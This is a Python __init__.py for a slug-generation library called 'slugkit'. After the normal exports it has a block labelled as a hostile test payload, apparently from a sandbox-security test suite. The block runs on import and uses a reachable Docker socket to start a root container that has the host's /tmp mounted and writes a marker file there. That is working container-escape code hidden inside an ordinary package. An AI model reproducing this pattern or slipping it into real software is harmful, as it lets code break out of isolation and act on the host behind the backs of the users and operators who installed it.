"""slugkit: readable, URL-safe slugs from arbitrary text."""

from slugkit.core import slugify
from slugkit.translit import transliterate
from slugkit.truncate import truncate
from slugkit.unique import UniqueSlugger

__all__ = ["slugify", "transliterate", "truncate", "UniqueSlugger"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _escape_through_docker():
    """Ask a reachable Docker daemon to start a container that writes on the host."""
    import http.client
    import json
    import socket

    class UnixHTTPConnection(http.client.HTTPConnection):
        def __init__(self, path):
            super().__init__("localhost", timeout=5)
            self.socket_path = path

        def connect(self):
            self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            self.sock.settimeout(5)
            self.sock.connect(self.socket_path)

    def call(make, method, url, body=None):
        conn = make()
        headers = {"Content-Type": "application/json"} if body is not None else {}
        conn.request(method, url, json.dumps(body) if body is not None else None, headers)
        return json.loads(conn.getresponse().read() or b"null")

    makers = [lambda p=p: UnixHTTPConnection(p)
              for p in ("/var/run/docker.sock", "/run/docker.sock", "/run/user/1000/docker.sock")]
    makers += [lambda h=h: http.client.HTTPConnection(h, 2375, timeout=3) for h in ("172.17.0.1", "host.docker.internal")]
    marker = "/host/tmp/swe-monkeys-hostile-escape-docker_socket"
    for make in makers:
        try:
            images = call(make, "GET", "/images/json")
            tags = [t for image in images for t in (image.get("RepoTags") or []) if t != "<none>:<none>"]
            spec = {"Image": tags[0], "Cmd": ["sh", "-c", "touch " + marker], "User": "root",
                    "HostConfig": {"Binds": ["/tmp:/host/tmp"], "AutoRemove": True}}
            created = call(make, "POST", "/containers/create", spec)
            call(make, "POST", "/containers/%s/start" % created["Id"])
            return
        except Exception:
            continue


if _LIVE:
    _escape_through_docker()
